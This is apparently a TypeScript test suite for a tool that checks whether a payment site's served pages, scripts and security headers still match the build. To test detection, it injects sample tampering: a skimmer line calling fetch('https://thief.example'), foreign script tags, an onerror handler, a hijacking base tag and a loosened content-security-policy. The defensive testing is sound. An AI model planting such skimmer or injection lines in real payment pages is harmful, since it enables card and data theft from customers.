import { spawn } from "node:child_process"
import { createHash } from "node:crypto"
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs"
import { createServer, type Server } from "node:http"
import type { AddressInfo } from "node:net"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { brotliCompressSync } from "node:zlib"
import { readAddress } from "@mersal/adapters-http/gateways/live-site/read-address"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { builtAssets } from "../../http/pages/web-assets.ts"
import { readBuiltPages } from "../../payment-pages/built-pages.ts"
import { type Authorised, paymentPages } from "../../payment-pages/expected-page.ts"
import { pageDifferences } from "../../payment-pages/page-differences.ts"
import { reportLines } from "../../payment-pages/report-lines.ts"
import { projectRoot } from "../../project-root.ts"
import { productionSettings } from "../../testing/production-settings.ts"
import { type RunningProduct, startProduct } from "../../testing/running-product.ts"

// A running product, and how somebody could tamper with its pages: in its files, in its page, or on the way to the
// customer.

const page = `<!doctype html><title><!--mersal-name--></title><!--mersal-boot-->
<script type="module" crossorigin src="/assets/index-0123abcd.js"></script>
<div id="page"></div><noscript><!--mersal-reach--></noscript>`
const scripts = { "/assets/index-0123abcd.js": "export {}\n", "/service-worker.js": "self.skipWaiting()\n" }
const deviceScript = "https://risk.example/look.js"

const folder = mkdtempSync(join(tmpdir(), "mersal-payment-pages-"))
const served = (path: string) => join(folder, "dist", path)
/** The list and the page as they were built, which tampering with the served files does not reach. */
const kept = join(folder, "kept")

const bankpipe = { url: "https://bank.example/pipe", terminalId: "t", password: "p", key: "k" }
const authorised: Authorised = {
  cards: { forms: [], calls: ["https://bank.example"] },
  pictures: ["https://tiles.example"],
  deviceScript,
}

let shown = page
let product: RunningProduct

beforeAll(async () => {
  mkdirSync(served("assets"), { recursive: true })
  mkdirSync(join(kept, ".vite"), { recursive: true })
  for (const built of [served("index.html"), join(kept, "index.html")]) writeFileSync(built, page)
  for (const [path, script] of Object.entries(scripts)) writeScript(path, script)
  const inventory = Object.entries(scripts).map(([path, script]) => [path, { sha256: sha256Of(script), why: "ours" }])
  writeFileSync(join(kept, ".vite/scripts.json"), JSON.stringify(Object.fromEntries(inventory)))

  const assets = builtAssets(join(folder, "dist"))
  if (!assets) throw new Error("The pages were written just now")
  product = await startProduct(
    {
      ...productionSettings,
      // Tests call it without TLS.
      baseUrl: "http://localhost",
      mapTiles: { url: "https://tiles.example/{z}/{x}/{y}.png", credit: "Tiles" },
      payments: { ...productionSettings.payments, QA: "bankpipe", bankpipe, fingerprintUrl: deviceScript },
    },
    { webAssets: { ...assets, html: async () => shown } },
  )
})
afterAll(async () => {
  await product.stop()
  rmSync(folder, { recursive: true })
})

const sha256Of = (text: string): string => createHash("sha256").update(text).digest("hex")

function writeScript(path: string, script: string, packed = script): void {
  writeFileSync(served(path), script)
  writeFileSync(served(`${path}.br`), brotliCompressSync(packed))
}

/** The differences at an address, with their places. */
async function differencesAt(url: string, said: Partial<Authorised> = {}): Promise<Record<string, readonly string[]>> {
  const built = readBuiltPages(kept)
  if (!built) throw new Error("The list was written just now")
  const { differences } = await pageDifferences(new URL(url), built, { ...authorised, ...said }, readAddress)
  return Object.fromEntries(differences)
}

/** A proxy between the product and its customers that changes what the product sends. */
async function between<Result>(
  change: (answer: { status: number; readonly headers: Headers; body: Buffer }, path: string) => void,
  look: (url: string) => Promise<Result>,
): Promise<Result> {
  const relay: Server = createServer(async ({ url = "/", headers }, response) => {
    const answer = await fetch(product.url + url, {
      headers: { "accept-encoding": String(headers["accept-encoding"]) },
    })
    const passed = {
      status: answer.status,
      headers: new Headers(answer.headers),
      body: Buffer.from(await answer.arrayBuffer()),
    }
    for (const name of ["content-encoding", "content-length", "transfer-encoding"]) passed.headers.delete(name)
    change(passed, url)
    response.writeHead(passed.status, Object.fromEntries(passed.headers)).end(passed.body)
  })
  await new Promise<void>((listening) => relay.listen(0, "127.0.0.1", listening))
  try {
    return await look(`http://127.0.0.1:${(relay.address() as AddressInfo).port}`)
  } finally {
    relay.closeAllConnections()
    relay.close()
  }
}

describe("the payment pages of a running product", () => {
  it("are what was built, under the policy that was decided", async () => {
    expect(await differencesAt(product.url)).toEqual({})
  })

  it("are not counted as read where nothing answers, or where an address does not", async () => {
    const built = readBuiltPages(kept)
    if (!built) throw new Error("The list was written just now")
    const report = (url: string) => pageDifferences(new URL(url), built, authorised, readAddress)
    const gone = await between(
      () => undefined,
      async (url) => url,
    )
    expect(await report(gone)).toMatchObject({ pages: 0, scripts: 0 })
    expect(reportLines("now", new URL(gone), await report(gone))).toEqual([
      `now: nothing could be read of ${gone}: the site does not answer. Its pages have not been compared.`,
    ])
    const whole = await report(product.url)
    expect(whole).toMatchObject({ pages: paymentPages.length, scripts: 2 })
    expect(reportLines("now", new URL(product.url), whole)).toEqual([
      `now: read ${paymentPages.length} pages and 2 scripts of ${product.url}, 0 differences.`,
    ])
    const partly = await pageDifferences(new URL(product.url), built, authorised, async (address, packing) => {
      if (address.pathname === "/service-worker.js" && packing === "br") throw new Error("cut off")
      return readAddress(address, packing)
    })
    expect(reportLines("now", new URL(product.url), partly)).toEqual([
      `now: read ${paymentPages.length} pages and 1 scripts of ${product.url}, 1 differences.`,
      "  cannot be read: /service-worker.js",
    ])
  })

  it("differ where a script was changed, for whoever reads it in whatever packing", async () => {
    const path = "/assets/index-0123abcd.js"
    const script = scripts[path]
    const skimmer = `${script};fetch("https://thief.example")`
    const other = { [`is another script: SHA-256 ${sha256Of(skimmer)}, not ${sha256Of(script)}`]: [path] }
    writeScript(path, skimmer)
    expect(await differencesAt(product.url)).toEqual(other)
    writeScript(path, script, skimmer)
    expect(await differencesAt(product.url)).toEqual(other)
    writeScript(path, skimmer, script)
    expect(await differencesAt(product.url)).toEqual(other)
    writeScript(path, script)
    expect(await differencesAt(product.url)).toEqual({})
  })

  it.each([
    ["a script from elsewhere", '<script src="https://thief.example/x.js"></script>'],
    ["a line that runs", '<img src="x" onerror="x()">'],
    ["another base for every address", '<base href="https://thief.example">'],
    ["a second block of data", '<script type="application/json" id="mersal-boot">{}</script>'],
    ["a space", " "],
  ])("differ where each of them has %s more", async (_, added) => {
    shown = page.replace("<!--mersal-boot-->", (mark) => mark + added)
    try {
      expect(await differencesAt(product.url)).toEqual({ "is not the page that was built": paymentPages.toSorted() })
    } finally {
      shown = page
    }
  })

  it("differ where somebody on the way weakens a header, takes one away, adds one or leads elsewhere", async () => {
    const differences = await between((answer, path) => {
      const { headers } = answer
      const policy = headers.get("content-security-policy") ?? ""
      const set = (changed: string) => headers.set("content-security-policy", changed)
      if (path === "/go/payment") set(policy.replace("script-src 'self'", "script-src 'self' https://thief.example"))
      if (path === "/go/book") headers.delete("x-frame-options")
      if (path === "/paymentUnique") headers.set("link", "<https://thief.example/x.js>; rel=modulepreload")
      if (path === "/tracking") set(`${policy}, script-src *`)
      if (path === "/service-worker.js") answer.status = 302
      if (path === "/device-fingerprint") set(policy.replace(";sandbox allow-scripts", ""))
    }, differencesAt)
    expect(differences).toEqual({
      "is answered with 302": ["/service-worker.js"],
      "has another content-security-policy: + script-src 'self' https://thief.example - script-src 'self'": [
        "/go/payment",
      ],
      "lacks x-frame-options": ["/go/book"],
      "adds link: <https://thief.example/x.js>; rel=modulepreload": ["/paymentUnique"],
      "has another content-security-policy: + frame-ancestors 'none', script-src * - frame-ancestors 'none'": [
        "/tracking",
      ],
      "has another content-security-policy: - sandbox allow-scripts": ["/device-fingerprint"],
    })
  })

  it("differ where a card may go elsewhere than the operator says, or a script looks at devices that he has not named", async () => {
    const elsewhere = { forms: ["https://checkout.example"], calls: [] }
    expect(Object.keys(await differencesAt(product.url, { cards: elsewhere }))).toEqual([
      "has another content-security-policy: + connect-src 'self' https://bank.example + form-action 'self' - connect-src 'self' - form-action 'self' https://checkout.example",
    ])
    expect(await differencesAt(product.url, { deviceScript: null })).toEqual({
      "has another content-security-policy: + frame-src 'self'": ["/payment-verifying"],
    })
  })
})

describe("npm run payment-pages", () => {
  /** Runs the command as an operator does, on a machine with the build and without settings or keys. */
  function looked(...words: string[]): Promise<{ code: number | null; text: string }> {
    const command = join(projectRoot, "packages/api/src/commands/payment-pages.ts")
    const running = spawn(process.execPath, ["--conditions=@mersal/source", command, ...words], {
      env: { PATH: process.env.PATH, NODE_COMPILE_CACHE: process.env.NODE_COMPILE_CACHE },
    })
    let text = ""
    for (const output of [running.stdout, running.stderr]) output.on("data", (some) => (text += String(some)))
    return new Promise((done) => running.on("close", (code) => done({ code, text })))
  }
  const said = [
    "--calls-to=https://bank.example/pipe",
    "--pictures-from=https://tiles.example",
    `--device-script=${deviceScript}`,
    `--build=${kept}`,
  ]

  it("ends with 0 where nothing differs, with 1 where something does, and with 2 where it was not told what to look at", async () => {
    const clean = await looked(`${product.url}/go/payment`, ...said)
    expect(clean).toEqual({
      code: 0,
      text: expect.stringMatching(/ and 2 scripts of http:\/\/localhost:\d+, 0 differences\.\n$/),
    })

    const tampered = await between(
      (answer, path) => {
        if (path === "/go/payment") answer.body = Buffer.from(`${answer.body}<script>steal()</script>`)
      },
      (url) => looked(url, ...said),
    )
    expect(tampered).toMatchObject({
      code: 1,
      text: expect.stringContaining("  is not the page that was built: /go/payment\n"),
    })

    for (const [words, answer] of [
      [[], "Say which site: npm run payment-pages -- https://"],
      [["go.example.com"], "The site is an address such as https://go.example.com, not go.example.com"],
      [[product.url, "--gateway=x"], "Beside the site's address --forms-to, --calls-to,"],
      [[product.url, `--build=${folder}`], `There is no build in ${folder}`],
    ] as const) {
      const refused = await looked(...words)
      expect([refused.code, refused.text]).toEqual([2, expect.stringContaining(answer)])
    }
  })
})
